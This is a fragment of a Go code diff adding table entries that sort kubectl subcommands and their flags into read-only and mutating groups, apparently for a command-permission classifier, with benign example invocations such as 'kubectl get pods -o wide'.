+		Flags:    "-wpR watch show-labels no-headers previous follow timestamps recursive all-containers client short watch-only containers ignore-not-found",
+		Values: "-olcf output selector field-selector container since since-time tail sort-by filename label-columns limit-bytes max-log-requests " +
+			"template chunk-size raw",
+		OptValues: "",
+		Examples:  []Example{{"kubectl get pods -o wide", "ro"}, {"kubectl logs -f p", "ro"}},
+	},
+	{
+		Names: []string{
+			"apply", "create", "delete", "edit", "patch", "replace", "scale", "rollout", "set", "label", "annotate", "cp", "drain", "cordon",
+			"uncordon", "taint", "port-forward", "proxy", "attach", "debug", "expose", "autoscale", "auth", "certificate", "config", "diff", "wait",
+			"kustomize", "plugin",
+		},
+		Flags:    "-R force recursive prune wait dry-run server-side all",
+		Values:   "-fklo filename kustomize selector output",
+		Examples: []Example{{"kubectl apply -f x.yaml", ""}},
+	},
 }
